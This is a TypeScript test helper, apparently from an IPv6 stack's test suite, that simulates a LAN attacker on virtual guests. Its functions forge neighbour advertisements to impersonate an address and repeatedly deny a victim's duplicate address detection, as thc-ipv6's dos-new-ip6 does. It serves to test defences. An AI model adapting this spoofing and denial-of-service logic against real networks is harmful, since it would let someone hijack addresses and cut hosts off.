import { setTimeout as delay } from 'node:timers/promises';
import { type Address, formatAddress } from '../../src/ip/index.ts';
import { addAddress, type Detection, detectionOf } from './detection.ts';
import { markedFrame, type Station } from './frames.ts';
import { advertisement, claim } from './neighbor-frames.ts';
import { isDetectionOf } from './onlookers.ts';
import { forgedMarker } from './watch.ts';
import { captureAll, type PluggedPort, stationOf } from './workbench.ts';

/** An attacker that sends frames one after the other, with pauses between them. */
export interface Train {
  readonly attacker: PluggedPort;
  /** The guest whose address it is after. */
  readonly victim: PluggedPort;
  /** Honest guests that it tries to deceive, the victim among them. */
  readonly onlookers: readonly PluggedPort[];
  /** Waits for a while, each time for another one: races are won at some moments only. */
  pause(): Promise<unknown>;
}

/** Claims an address that is in use, advertises it to all and to each, and sends from it. */
export async function impersonate(train: Train, address: Address): Promise<void> {
  const forged = pretend(train, address);
  await send(train, claim(forged));
  await train.pause();
  await send(train, ...advertisements(train, forged));
  await train.pause();
  await send(train, ...data(train, forged));
}

/**
 * The victim takes an address. When its detection is over, which `detectionIsOver` waits for, the attacker claims and
 * advertises the same address, and sends from it. Answers how the victim's detection ended.
 */
export async function takeOver(
  train: Train,
  address: Address,
  detectionIsOver: () => Promise<unknown>,
): Promise<Detection> {
  const text = formatAddress(address);
  await addAddress(train.victim, text);
  await detectionIsOver();
  await impersonate(train, address);
  return detectionOf(train.victim, text);
}

/**
 * Advertises, claims and uses an address over and over as soon as the victim has asked for it: before that, it would be the
 * attacker's by right. Answers how the victim's detection ended.
 */
export async function deny(train: Train, address: Address): Promise<Detection> {
  const { victim } = train;
  const text = formatAddress(address);
  const [eye] = await captureAll([victim]);
  const isAskedFor = () => eye?.frames.some((frame) => isDetectionOf(frame, text, 'out')) === true;
  const attack = repeat(async () => {
    if (!isAskedFor()) return delay(1);
    await denyOnce(train, address);
    await train.pause();
  });
  try {
    await addAddress(victim, text);
    return await detectionOf(victim, text);
  } finally {
    await attack.stop();
    await eye?.stop();
  }
}

/** One advertisement for all and for each, and a detection of the attacker's own, as dos-new-ip6 of thc-ipv6 sends them. */
export function denyOnce(train: Train, address: Address): Promise<void> {
  const forged = pretend(train, address);
  return send(train, ...advertisements(train, forged), claim(forged));
}

/** Sends frames from the attacker's interface. */
export function send({ attacker }: Pick<Train, 'attacker'>, ...frames: readonly Uint8Array[]): Promise<void> {
  return attacker.guest.inject(frames, attacker.interface);
}

/** The attacker as it would have this address. */
export function pretend({ attacker }: Pick<Train, 'attacker'>, address: Address): Station {
  return { mac: stationOf(attacker).mac, address };
}

/** To all nodes and to each honest guest. */
export function advertisements({ onlookers }: Train, forged: Station): readonly Uint8Array[] {
  return [advertisement(forged), ...onlookers.map((one) => advertisement(forged, { to: stationOf(one) }))];
}

/** From the forged address to each honest guest. */
export function data({ onlookers }: Train, forged: Station): readonly Uint8Array[] {
  return onlookers.map((one) => markedFrame(forged, stationOf(one), forgedMarker(forged.mac)));
}

/** Does it over and over, each time when the one before has ended, until it is stopped; answers how often. */
export function repeat(work: () => Promise<unknown>): { stop(): Promise<number> } {
  let isOver = false;
  const loop = async () => {
    let count = 0;
    for (; !isOver; count += 1) await work();
    return count;
  };
  const running = loop();
  running.catch(() => undefined); // `stop` tells
  return {
    stop() {
      isOver = true;
      return running;
    },
  };
}
